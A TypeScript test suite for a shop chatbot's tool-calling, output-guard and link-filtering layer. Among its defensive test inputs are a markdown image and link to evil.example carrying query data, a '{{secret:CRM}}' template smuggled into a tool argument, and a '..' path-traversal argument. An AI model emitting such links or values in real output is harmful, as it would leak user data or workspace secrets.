import { randomUUID } from "node:crypto";
import { createServer, type IncomingHttpHeaders } from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
import type { EffectOutcome, EffectRequests } from "../../flow/kernel/effects";
import type { ModelTool } from "../../flow/kernel/model-tools";
import { effectPerformer } from "../../server/conversations/effect-performer";
import { createPool } from "../../server/coupons/create-pool";
import { listGaps } from "../../server/knowledge/gaps";
import { savePair } from "../../server/knowledge/save-source";
import { orderInputSchema, writeOrder } from "../../server/orders/write-order";
import { writeProducts } from "../../server/products/write-products";
import { createTable } from "../../server/tables/save-table";
import { saveRow } from "../../server/tables/table-rows";
import { setSecret } from "../../server/workspaces/set-secret";
import { testEnvironment } from "../support/environment";
import type { FaultName } from "../support/openai-faults";
import { type AskedModel, openAiServer } from "../support/openai-server";
import { firstOwner, type Shop } from "../support/people";
import { testDatabase } from "../support/test-database";

testEnvironment();
testDatabase();
const model = openAiServer();
let shop: Shop;
let contactId: string;
let pool: string;
let connector: {
  url: string;
  asked: { url: string; body: string; headers: IncomingHttpHeaders }[];
  close(): void;
};

beforeAll(async () => {
  const asked: (typeof connector)["asked"] = [];
  const server = createServer(async (request, response) => {
    let body = "";
    for await (const chunk of request) body += String(chunk);
    asked.push({ url: request.url ?? "", body, headers: request.headers });
    response.writeHead(200, { "content-type": "application/json" });
    response.end(JSON.stringify({ left: 3, ready: "2026-12-24" }));
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  connector = {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    asked,
    close: () => server.close(),
  };
  shop = await firstOwner();
  ({ id: pool } = await createPool(shop.actor, { name: "Welcome", code: "WELCOME" }));
  await setSecret(shop.actor, { name: "CRM", value: "crm-key" });
  const order = await writeOrder(
    shop.actor,
    "A-1",
    orderInputSchema.parse({
      contact: { email: "ann@example.org" },
      currency: "CNY",
      total: 399_900,
      lines: [{ product: "x1", name: "Star X1", quantity: 1, price: 399_900 }],
    }),
  );
  contactId = order.contactId ?? "";
  await savePair(shop.actor, {
    details: { title: "Refunds" },
    pair: {
      question: "How long do refunds take?",
      phrasings: [],
      answer: "Refunds are paid within 5 business days after we received the parcel.",
    },
  });
});
afterAll(() => connector.close());
beforeEach(() => {
  connector.asked.length = 0;
});

const stock = (): ModelTool => ({
  type: "http",
  name: "stock",
  description: "How many are left",
  method: "GET",
  url: `${connector.url}/stock/{sku}`,
  headers: [{ name: "authorization", value: "Bearer {{secret:CRM}}" }],
  parameters: [{ name: "sku", kind: "text", required: true }],
});

async function generate(
  more: Partial<EffectRequests["generate"]>,
  key = randomUUID() as string,
  timeoutMs = 5_000,
): Promise<{ outcome: EffectOutcome<"generate">; shown: string }> {
  let shown = "";
  const perform = effectPerformer({
    egress: { allowCidrs: ["127.0.0.0/8"] },
    model: { baseUrl: model().url, model: "m", timeoutMs },
    email: {},
  });
  const outcome = await perform(
    {
      kind: "generate",
      key: "1:write:1",
      request: { messages: [{ role: "user", content: "Hi" }], maxTokens: 200, stream: true, ...more },
    },
    {
      workspaceId: shop.actor.workspaceId,
      conversationId: randomUUID(),
      contactId,
      idempotencyKey: key,
      signal: new AbortController().signal,
      onDelta: (text) => {
        shown += text;
      },
    },
  );
  return { outcome: outcome as EffectOutcome<"generate">, shown };
}

const lastTool = (asked: AskedModel): string =>
  asked.body.messages.findLast(({ role }) => role === "tool")?.content ?? "";

describe("tools", () => {
  test("are offered with their arguments, used, and what they gave is told", async () => {
    model().script((_asked, turn) =>
      turn === 1
        ? {
            text: "Let me look.",
            calls: [
              { name: "orders", arguments: {} },
              { name: "stock", arguments: { sku: "x/1 ?" } },
            ],
          }
        : "Your Star X1 is ordered. There are 3 left.",
    );
    const { outcome, shown } = await generate({ tools: [{ type: "orders" }, stock()] });
    expect(outcome).toMatchObject({
      ok: true,
      result: {
        text: "Your Star X1 is ordered. There are 3 left.",
        using: "model",
        tools: [
          { name: "orders", ok: true },
          { name: "stock", ok: true },
        ],
      },
    });
    expect(shown).toContain("There are 3 left.");
    const [first, second] = model().asked;
    expect(first?.body.tools?.map((tool) => tool.function.name)).toEqual(["orders", "stock"]);
    expect(first?.body.tools?.[1]?.function.parameters).toMatchObject({
      required: ["sku"],
      additionalProperties: false,
    });
    expect(JSON.stringify(second?.body.messages)).toContain("3999.00 CNY");
    expect(connector.asked).toMatchObject([
      { url: "/stock/x%2F1%20%3F", headers: { authorization: "Bearer crm-key" } },
    ]);
    // The secret is the performer's alone.
    expect(JSON.stringify(model().asked)).not.toContain("crm-key");
  });

  test("look rows up in a table of the workspace by their key, and in no other's", async () => {
    const { id } = await createTable(shop.actor, {
      name: "Stores",
      key: "City",
      source: { columns: ["City", "Address"] },
    });
    await saveRow(shop.actor, { tableId: id, cells: ["上海", "Nanjing Road 1"] });
    const stores = (table: string): ModelTool => ({
      type: "table",
      name: "stores",
      description: "Our stores by city",
      table,
    });
    const asked = async (table: string, given: object) => {
      model().script((_asked, turn) =>
        turn === 1 ? { calls: [{ name: "stores", arguments: given }] } : "Well.",
      );
      const { outcome } = await generate({ tools: [stores(table)] });
      return {
        outcome,
        told: lastTool(model().asked.at(-1) as AskedModel),
        offered: model().asked[0]?.body.tools,
      };
    };
    const found = await asked(id, { key: " 上海 " });
    expect(found.offered?.map((one) => one.function.name)).toEqual(["stores"]);
    expect(JSON.stringify(found.offered)).toContain("Our stores by city");
    expect(JSON.parse(found.told)).toEqual({ row: { City: "上海", Address: "Nanjing Road 1" } });
    expect(found.outcome).toMatchObject({ ok: true, result: { tools: [{ name: "stores", ok: true }] } });
    expect((await asked(id, { key: "Rome" })).told).toContain("no such row");
    // Which table is the author's word alone.
    expect((await asked(id, { key: "Rome", table: randomUUID() })).told).toContain("Wrong arguments");
    expect(await asked(randomUUID(), { key: "上海" })).toMatchObject({
      told: expect.stringContaining("no such table"),
      outcome: { ok: true, result: { tools: [{ name: "stores", ok: false }] } },
    });
  });

  test("look up products that are for sale, by name, further name or number, and none that are not yet", async () => {
    await writeProducts(shop.actor, [
      { ref: "x1", name: "Star X1", aliases: ["星图 X1"], price: 399_900, currency: "CNY", stock: 4 },
      { ref: "x9", name: "Star X9", price: 999_900, currency: "CNY", validFrom: "2099-01-01T00:00:00Z" },
    ]);
    for (const name of ["star x1", "X1", "星图X1", "How much is the Star X1?"]) {
      model().script((_asked, turn) =>
        turn === 1
          ? { calls: [{ name: "products", arguments: { name } }] }
          : "The Star X1 costs 3,999.00 CNY.",
      );
      const { outcome } = await generate({
        tools: [{ type: "products" }],
        guard: { avoid: [], promises: true },
      });
      expect(outcome).toMatchObject({ ok: true, result: { text: "The Star X1 costs 3,999.00 CNY." } });
      const told = JSON.parse(lastTool(model().asked.at(-1) as AskedModel));
      expect(told.products).toMatchObject([{ number: "x1", price: "3999.00 CNY", stock: 4 }]);
    }
    for (const name of ["Star X9", "x9", "star"]) {
      model().script((_asked, turn) =>
        turn === 1 ? { calls: [{ name: "products", arguments: { name } }] } : "I will ask.",
      );
      await generate({ tools: [{ type: "products" }] });
      expect(lastTool(model().asked.at(-1) as AskedModel)).not.toMatch(/x9|9999/i);
    }
  });

  test("give a coupon once, however often they are asked for and the step is taken", async () => {
    model().script((asked) =>
      lastTool(asked)
        ? "Here is your code."
        : {
            calls: [
              { name: "coupon", arguments: {} },
              { name: "coupon", arguments: {} },
            ],
          },
    );
    const tools: ModelTool[] = [{ type: "coupon", pool, campaign: "spring" }];
    const first = await generate({ tools }, "run-1");
    expect(first.outcome).toMatchObject({ ok: true, result: { coupon: { code: "WELCOME" } } });
    const again = await generate({ tools }, "run-2");
    expect(again.outcome).toMatchObject({
      ok: true,
      result: { coupon: { code: "WELCOME", taken: "already" } },
    });
  });

  test("post what stands nowhere in the address, with a key that tells repeats", async () => {
    model().script((asked) =>
      lastTool(asked)
        ? "Done."
        : { calls: [{ name: "book", arguments: { day: "{{secret:CRM}}", people: 2 } }] },
    );
    const book: ModelTool = {
      type: "http",
      name: "book",
      description: "Books a table",
      method: "POST",
      url: `${connector.url}/tables`,
      headers: [],
      parameters: [
        { name: "day", kind: "text", required: true },
        { name: "people", kind: "number", required: true },
      ],
    };
    await generate({ tools: [book] }, "run-3");
    await generate({ tools: [book] }, "run-3");
    expect(connector.asked.map(({ body }) => JSON.parse(body))).toEqual([
      { day: "{ {secret:CRM}}", people: 2 },
      { day: "{ {secret:CRM}}", people: 2 },
    ]);
    const [one, two] = connector.asked.map(({ headers }) => headers["idempotency-key"]);
    expect(one).toMatch(/^[0-9a-f]{40}$/);
    expect(two).toBe(one);
  });

  test("ask for a person: nothing more is said", async () => {
    model().script({
      text: "One moment",
      calls: [{ name: "handoff", arguments: { reason: "wants a discount" } }],
    });
    expect((await generate({ tools: [{ type: "handoff" }] })).outcome).toMatchObject({
      ok: true,
      result: { text: "", handoff: { reason: "wants a discount" } },
    });
    expect(model().asked).toHaveLength(1);
  });

  test.each([
    ["an unknown tool", "refund", { order: "A-1" }],
    ["further arguments", "orders", { number: "A-1", contactId: "x" }],
    ["arguments of another kind", "orders", { number: 7 }],
    ["arguments that are no JSON", "orders", "{nope"],
    ["the folder above", "stock", { sku: ".." }],
    ["a missing argument", "stock", {}],
  ])("B-58 %s: explained once, then it is over", async (_what, name, given) => {
    model().script((asked) => {
      const told = lastTool(asked);
      if (told) expect(told).toMatch(/There is no such tool|Wrong arguments/);
      return { calls: [{ name, arguments: given }] };
    });
    const { outcome } = await generate({ tools: [{ type: "orders" }, stock()] });
    expect(outcome).toMatchObject({ ok: false, error: { code: "tool" } });
    expect(model().asked).toHaveLength(2);
    expect(connector.asked).toHaveLength(0);
  });

  test("end: a model that only ever asks for them has to answer at last", async () => {
    model().script((asked) =>
      asked.body.tools?.length ? { calls: [{ name: "orders", arguments: {} }] } : "Enough.",
    );
    expect((await generate({ tools: [{ type: "orders" }] })).outcome).toMatchObject({
      ok: true,
      result: { text: "Enough." },
    });
    expect(model().asked).toHaveLength(6);
  });

  test("take no longer together than one answer may", async () => {
    // Each answer comes in time, all six of them do not.
    model().script(async (asked) => {
      await new Promise((resolve) => setTimeout(resolve, 400));
      return asked.body.tools?.length ? { calls: [{ name: "orders", arguments: {} }] } : "Enough.";
    });
    const { outcome } = await generate({ tools: [{ type: "orders" }] }, randomUUID(), 500);
    expect(outcome).toMatchObject({ ok: false, error: { code: "timeout" } });
    expect(model().asked.length).toBeLessThan(6);
  });

  test("are asked for by none where none are offered", async () => {
    model().script({ calls: [{ name: "orders", arguments: {} }] });
    expect((await generate({})).outcome).toMatchObject({ ok: false, error: { code: "empty" } });
  });
});

describe("fields", () => {
  const extract: EffectRequests["generate"]["extract"] = [
    { name: "day", kind: "date", required: true },
    { name: "size", kind: "choice", options: ["S", "M", "L"] },
    { name: "people", kind: "number" },
  ];
  test("are asked for once more where they are missing or of another kind", async () => {
    model().script((_asked, turn) =>
      JSON.stringify({
        text: "",
        data: turn === 1 ? { day: "tomorrow", size: "m" } : { day: "2026-12-24", size: "m", people: "4" },
      }),
    );
    expect((await generate({ extract })).outcome).toMatchObject({
      ok: true,
      result: { data: { day: "2026-12-24", size: "M", people: 4 } },
    });
    expect(model().asked[1]?.body.messages.at(-1)?.content).toContain("day");
  });

  test("are a fault when they stay so, after one repair", async () => {
    model().script(JSON.stringify({ text: "", data: { day: "2026-02-31" } }));
    expect((await generate({ extract })).outcome).toMatchObject({ ok: false, error: { code: "garbage" } });
    expect(model().asked).toHaveLength(2);
  });
});

describe("the guard", () => {
  const guard = {
    avoid: [],
    promises: true,
    authored: "We are open from 9 to 18 o'clock. Delivery takes 2 days.",
  };

  test("keeps promises that somebody made, and no others", async () => {
    model().script(
      "Delivery takes 2 days. Refunds are paid within 5 business days after we received the parcel. You get 50% off. Anything else?",
    );
    const { outcome, shown } = await generate({
      guard,
      knowledge: { question: "How long do refunds take?" },
    });
    expect(outcome).toMatchObject({
      ok: true,
      result: {
        text: "Delivery takes 2 days. Refunds are paid within 5 business days after we received the parcel. Anything else?",
        withheld: 1,
      },
    });
    expect(shown).not.toContain("50%");
  });

  test.each([
    ["a word to avoid", { ...guard, avoid: ["Acme"] }, "Better than ACME phones."],
    ["another topic, as the model says", { ...guard, topic: "phones" }, "[off-topic]"],
    [
      "another topic, as we find",
      { ...guard, topic: "Phones and their delivery" },
      "Arr, the pirates sailed the seven seas and buried their treasure under a crooked palm near the lagoon.",
    ],
    ["an angry text", { ...guard, tone: "friendly" }, "You idiot, shut up! I hate you, you stupid moron!"],
    ["nothing but promises", guard, "You will get 500 dollars from us for free."],
    ["a warranty that nobody gives", guard, "It has a 10-year warranty."],
    ["a warranty that nobody gives, in Chinese", guard, "这款产品保修十年。"],
    ["another currency", guard, "You get 500 yen."],
    ["a gift in other words", guard, "买一送一,不要钱。"],
  ])("blocks %s", async (_what, rules, text) => {
    model().script(text);
    expect((await generate({ guard: rules })).outcome).toMatchObject({
      ok: false,
      error: { code: "blocked" },
    });
  });

  test("B-39 lets known addresses through and no others, nor pictures", async () => {
    model().script(
      "See https://shop.example/help. ![x](https://evil.example/?d=1) Or [this](https://evil.example/?d=2).",
    );
    expect((await generate({ links: ["https://shop.example/help"] })).outcome).toMatchObject({
      ok: true,
      result: { text: "See https://shop.example/help.  Or this" },
    });
    model().script("Go to https://shop.example/help?d=Ann%20secret");
    expect((await generate({ links: ["https://shop.example/help"] })).outcome).toMatchObject({
      ok: true,
      result: { text: "Go to" },
    });
  });
});

test("a question that neither the knowledge nor a tool answers is a gap; what they answer is none", async () => {
  const asked = async (question: string, more: Partial<EffectRequests["generate"]> = {}, words = "Sure.") => {
    model().script(words);
    return generate({ messages: [{ role: "user", content: question }], knowledge: { question }, ...more });
  };
  const gaps = async () => (await listGaps(shop.actor, {})).rows.map(({ question }) => question).sort();
  await asked("How long do refunds take?");
  await asked("My name is Ann.");
  // Whatever the model says to it: nothing told it so.
  expect((await asked("Do you engrave names on mugs?")).outcome).toMatchObject({ ok: true });
  model().script({ fault: "500" });
  await generate({ knowledge: { question: "Can I bring my dog to the store?" } });
  const guard = { avoid: [], promises: true, authored: "" };
  await asked("你们有会员日吗？", { guard }, "You will get 500 dollars from us for free.");
  const using = (name: string, given: object) =>
    model().script((_asked, turn) => (turn === 1 ? { calls: [{ name, arguments: given }] } : "Yes."));
  using("orders", {});
  await generate({ tools: [{ type: "orders" }], knowledge: { question: "Where is the order I placed?" } });
  const lost = "Do you repair umbrellas as well?";
  using("knowledge", { question: "umbrella repair" });
  await generate({ tools: [{ type: "knowledge" }], messages: [{ role: "user", content: lost }] });
  expect(await gaps()).toEqual(
    ["Do you engrave names on mugs?", "Can I bring my dog to the store?", "你们有会员日吗？", lost].sort(),
  );
});

describe("F13, F14, F15: a model that does not", () => {
  // The others are those of every call: tests/services/model-answers.test.ts.
  const faults = [
    "silence",
    "429",
    "500",
    "refusal",
    "filter",
    "empty",
    "wrong schema",
    "cut stream",
  ] as const satisfies FaultName[];
  test.each(faults)("%s: the knowledge says it, and without knowledge it is the error", async (fault) => {
    model().script({ fault });
    const patience = fault === "silence" ? 100 : 5_000;
    const known = await generate(
      { knowledge: { question: "How long do refunds take?" } },
      undefined,
      patience,
    );
    const isRefused = ["refusal", "filter"].includes(fault);
    if (isRefused) expect(known.outcome).toMatchObject({ ok: false, error: { code: "blocked" } });
    else
      expect(known.outcome).toMatchObject({
        ok: true,
        result: {
          text: "Refunds are paid within 5 business days after we received the parcel.",
          using: "passages",
        },
      });
    const alone = await generate({}, undefined, patience);
    expect(alone.outcome).toMatchObject({ ok: false, error: { code: expect.stringMatching(/^[a-z_]+$/) } });
  });
});
